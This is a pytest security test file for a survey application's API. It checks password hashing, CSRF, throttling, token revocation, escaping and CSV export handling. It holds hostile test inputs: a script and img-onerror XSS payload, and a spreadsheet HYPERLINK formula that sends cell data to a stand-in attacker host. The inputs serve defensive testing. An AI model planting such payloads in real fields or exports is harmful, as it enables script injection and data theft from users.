"""What issue 5 asks to see: hashed passwords, sessions shared by app instances, CSRF on
API posts with a session cookie, login throttling through the login endpoint, revoked
tokens refused, user text escaped in HTML reports, formula cells neutralised in CSV
exports, oversized bodies refused; and the audit log through the API."""
from __future__ import annotations

import csv
import io

import pytest
from litestar.testing import AsyncTestClient

from tests.security.api_support import SYSTEM, seed_round
from tests.helpers.auth import make_token
from survey_engine.services import users as auth_service
from survey_engine.store.auth_tables import User
from survey_engine.services import responses
from survey_engine.web import create_app
from survey_engine.services import tokens

API = "/api/v1"
PASSWORD = "korrekt häst batteri häftklammer"


def _app():
    return create_app(secure_cookies=False, db_pool=False)


async def _login(client, username="anna", password=PASSWORD):
    return await client.post(f"{API}/auth/login", json={"username": username, "password": password})


@pytest.fixture
async def anna(db):
    await auth_service.create_user("tests", "anna", "analyst", password=PASSWORD)


async def test_passwords_are_stored_hashed_never_in_plain_text(db):
    admin = await make_token("admin")
    async with AsyncTestClient(app=_app()) as c:
        r = await c.post(f"{API}/users", headers={"Authorization": f"Bearer {admin}"},
                         json={"username": "bertil", "role": "planner", "password": PASSWORD})
        assert r.status_code == 201, r.text
        assert "password" not in r.json() and PASSWORD not in r.text
    row = await User.select().where(User.username == "bertil").first()
    assert row["password_hash"].startswith("$argon2id$") and PASSWORD not in row["password_hash"]
    assert all(PASSWORD not in str(v) for v in row.values())


async def test_login_me_logout(anna):
    async with AsyncTestClient(app=_app()) as c:
        assert (await c.get(f"{API}/auth/me")).status_code == 401
        r = await _login(c)
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["user"]["username"] == "anna" and body["user"]["role"] == "analyst" and body["csrf_token"]
        cookie = r.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=lax" in cookie
        me = await c.get(f"{API}/auth/me")
        assert me.status_code == 200 and me.json()["via"] == "session"
        assert (await c.get(f"{API}/rounds")).status_code == 200
        r = await c.post(f"{API}/auth/logout", headers={"X-CSRF-Token": body["csrf_token"]})
        assert r.status_code == 200
        assert (await c.get(f"{API}/auth/me")).status_code == 401
        assert (await c.get(f"{API}/rounds")).status_code == 401


async def test_wrong_password_is_401_with_one_message(anna):
    async with AsyncTestClient(app=_app()) as c:
        wrong = await _login(c, password="fel lösenord igen")
        unknown = await _login(c, username="ingen-sadan", password="fel lösenord igen")
    assert wrong.status_code == unknown.status_code == 401
    assert wrong.json() == unknown.json()


async def test_a_session_made_by_one_app_works_in_another(anna):
    """Two app instances share only the database, as two worker processes do."""
    async with AsyncTestClient(app=_app()) as first:
        r = await _login(first)
        csrf = r.json()["csrf_token"]
        session = first.cookies.get("se_session")
    assert session
    async with AsyncTestClient(app=_app()) as second:
        second.cookies.set("se_session", session)
        me = await second.get(f"{API}/auth/me")
        assert me.status_code == 200 and me.json()["username"] == "anna"
        # and its CSRF token is known there too
        r = await second.post(f"{API}/tokens", json={"name": "från andra processen"}, headers={"X-CSRF-Token": csrf})
        assert r.status_code == 201, r.text


async def test_api_post_with_session_cookie_but_without_csrf_token_is_refused(anna):
    async with AsyncTestClient(app=_app()) as c:
        csrf = (await _login(c)).json()["csrf_token"]
        r = await c.post(f"{API}/tokens", json={"name": "utan csrf"})
        assert r.status_code == 403 and r.json()["code"] == "csrf"
        r = await c.post(f"{API}/tokens", json={"name": "fel csrf"}, headers={"X-CSRF-Token": csrf[:-2] + "xx"})
        assert r.status_code == 403
        r = await c.post(f"{API}/tokens", json={"name": "med csrf"}, headers={"X-CSRF-Token": csrf})
        assert r.status_code == 201
        # nothing was created by the refused posts
        names = [t["name"] for t in (await c.get(f"{API}/tokens")).json()]
        assert names == ["med csrf"]


async def test_login_throttling_kicks_in_through_the_login_endpoint(anna):
    async with AsyncTestClient(app=_app()) as c:
        statuses = [(await _login(c, password=f"fel lösenord {i}")).status_code for i in range(6)]
        assert statuses[0] == 401 and 429 in statuses, statuses
        r = await _login(c)  # even the right password waits now
        assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
        assert "Försök igen" in r.json()["detail"] and "Try again" in r.json()["detail"]


async def test_revoked_token_is_refused(db):
    token = await make_token("analyst", username="skript")
    async with AsyncTestClient(app=_app()) as c:
        c.headers["Authorization"] = f"Bearer {token}"
        assert (await c.get(f"{API}/rounds")).status_code == 200
        r = await c.post(f"{API}/tokens", json={"name": "engångs", "days": 30})
        assert r.status_code == 201
        spare, spare_id = r.json()["token"], r.json()["info"]["id"]
        assert spare.startswith("se_") and r.json()["info"]["prefix"] == spare[:10]
        listed = (await c.get(f"{API}/tokens")).json()
        assert {t["id"] for t in listed} >= {spare_id} and all("token" not in t for t in listed)
        r = await c.post(f"{API}/tokens/{spare_id}/revoke")
        assert r.status_code == 200 and r.json()["revoked_at"]
        c.headers["Authorization"] = f"Bearer {spare}"
        r = await c.get(f"{API}/rounds")
        assert r.status_code == 401 and r.headers["www-authenticate"].startswith("Bearer")


async def test_someone_elses_token_cannot_be_revoked_by_a_non_admin(db):
    mine = await make_token("respondent", ["a"], username="r1")
    _, theirs = await tokens.create_token("tests", "r1", "x")  # r1's own spare: fine
    await auth_service.create_user("tests", "r2", "analyst")
    _, other = await tokens.create_token("tests", "r2", "their token")
    async with AsyncTestClient(app=_app()) as c:
        c.headers["Authorization"] = f"Bearer {mine}"
        assert (await c.post(f"{API}/tokens/{other.id}/revoke")).status_code == 403
        assert (await c.post(f"{API}/tokens/{theirs.id}/revoke")).status_code == 200


XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


async def test_xss_payloads_are_data_in_json_and_escaped_in_html(db):
    """The API returns user text as JSON data (never HTML); where it is shown as HTML
    (the survey page shows the comment, the report the unit's name) it is escaped."""
    from survey_engine.services import reports

    ctx = await seed_round(("a", "b"))
    admin = await make_token("admin")
    token = await make_token("respondent", ["a"])
    rid = ctx["responses"]["a"]
    async with AsyncTestClient(app=_app()) as c:
        r = await c.post(f"{API}/units/import", headers={"Authorization": f"Bearer {admin}"},
                         json={"units": [{"code": "a", "name": XSS, "weight": 10}]})
        assert r.status_code == 201 and r.json() == {"created": 0, "updated": 1}, r.text
        c.headers["Authorization"] = f"Bearer {token}"
        state = (await c.get(f"{API}/responses/{rid}")).json()
        r = await c.post(f"{API}/responses/{rid}/answers",
                         json={"revision": state["revision"], "comments": {"policy": XSS}})
        assert r.status_code == 200
        assert r.json()["answers"]["policy"]["comment"] == XSS  # JSON: the text as it was typed
        assert r.headers["content-type"].startswith("application/json")
        page = await c.get(f"/svar/{rid}/omrade/styr")  # the survey page (HTML) of the UI
        if page.status_code == 200 and page.headers["content-type"].startswith("text/html"):
            assert "<script>alert" not in page.text and "<img src=x" not in page.text
            assert "&lt;script&gt;" in page.text
    await responses.submit_response(rid, actor=SYSTEM)
    html, media, _ = await reports.unit_report(ctx["round"], "a", "html", actor=SYSTEM)
    text = html.decode("utf-8")
    assert media.startswith("text/html")
    assert "<script>alert" not in text and "<img src=x" not in text
    assert "&lt;script&gt;" in text


async def test_formula_in_an_exported_cell_is_neutralised(db):
    from survey_engine.services import reports

    ctx = await seed_round(("a", "b"))
    admin = await make_token("admin", username="adm")
    rid = ctx["responses"]["a"]
    state = await responses.get_response(rid, actor=SYSTEM)
    await responses.save_answers(rid, state.revision, {}, comments={"policy": FORMULA}, actor=SYSTEM)
    await responses.submit_response(rid, actor=SYSTEM)
    # the round's answers as CSV (reporting)
    content, _, _ = await reports.unit_report(ctx["round"], "a", "csv", csv_table="answers", actor=SYSTEM)
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    # the audit log as CSV (API): a login attempt with a formula as the username
    async with AsyncTestClient(app=_app()) as c:
        r = await c.post(f"{API}/auth/login", json={"username": "=1+2", "password": "x"})
        assert r.status_code == 401
        r = await c.get(f"{API}/audit/export.csv", headers={"Authorization": f"Bearer {admin}"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'=1+2" in cells and "=1+2" not in cells


async def test_oversized_body_is_413_and_overlong_text_422(db):
    admin = await make_token("admin")
    async with AsyncTestClient(app=_app()) as c:
        c.headers["Authorization"] = f"Bearer {admin}"
        r = await c.post(f"{API}/units", content=b'{"code": "x", "name": "' + b"x" * 2_000_000 + b'"}',
                         headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and r.headers["content-type"].startswith("application/json")
        assert r.json()["detail"]
        # a long comment within the body limit: 422 naming the question
        ctx = await seed_round(("a",))
        rid = ctx["responses"]["a"]
        state = (await c.get(f"{API}/responses/{rid}")).json()
        r = await c.post(f"{API}/responses/{rid}/answers",
                         json={"revision": state["revision"], "comments": {"policy": "x" * 4001}})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "comments.policy"
        # names over their limit: 422 naming the field; a wrong type stays 400
        r = await c.post(f"{API}/units", json={"code": "lang", "name": "n" * 301})
        assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["name"]
        r = await c.post(f"{API}/users", json={"username": "u" * 65, "role": "analyst"})
        assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["username"]
        r = await c.post(f"{API}/units", json={"code": "lang", "name": 5})
        assert r.status_code == 400


@pytest.mark.parametrize("url", [
    "/rounds/0", "/rounds/-1", "/rounds/99999999999", "/responses/abc", "/rounds?limit=501", "/rounds?limit=0",
    "/rounds?offset=-1", "/rounds?status=ajar", "/units/%00", "/audit?since=igår", "/audit?actor=%00",
    "/responses/1/history?question=" + "q" * 101,
])
async def test_bad_parameters_are_4xx_never_500(db, url):
    admin = await make_token("admin")
    async with AsyncTestClient(app=_app()) as c:
        r = await c.get(API + url, headers={"Authorization": f"Bearer {admin}"})
    # a malformed id matches no route (404); everything else is refused as invalid
    expected_404 = url.startswith(("/units", "/responses/abc"))
    assert 400 <= r.status_code < 500 and (r.status_code != 404 or expected_404), (url, r.status_code)
    assert r.status_code < 500 and r.json()["detail"]


async def test_audit_log_through_the_api_records_every_kind_of_change(db):
    ctx = await seed_round(("a", "b"))
    admin = await make_token("admin", username="adm")
    auditor = await make_token("auditor", username="rev")
    async with AsyncTestClient(app=_app()) as c:
        c.headers["Authorization"] = f"Bearer {admin}"
        await c.post(f"{API}/responses/{ctx['responses']['b']}/reopen")
        await c.post(f"{API}/rounds/{ctx['round']}/close")
        await c.post(f"{API}/users", json={"username": "ny", "role": "auditor"})
        c.headers["Authorization"] = f"Bearer {auditor}"
        page = (await c.get(f"{API}/audit", params={"limit": 500})).json()
        actions = {e["action"] for e in page["items"]}
        assert {"questionnaire.publish", "unit.import", "round.create", "round.open", "response.start",
                "response.write", "response.submit", "response.reopen", "round.close", "user.create",
                "token.create"} <= actions
        only = (await c.get(f"{API}/audit", params={"action": "round.", "limit": 2})).json()
        assert only["total"] == 3 and len(only["items"]) == 2 and only["items"][0]["action"] == "round.close"
        mine = (await c.get(f"{API}/audit", params={"actor": "adm"})).json()
        assert {e["action"] for e in mine["items"]} == {"response.reopen", "round.close", "user.create"}
        assert all(e["details"].get("via_token") for e in mine["items"])
        # auditors change nothing
        assert (await c.post(f"{API}/rounds/{ctx['round']}/open")).status_code == 403
        assert (await c.get(f"{API}/users")).status_code == 403
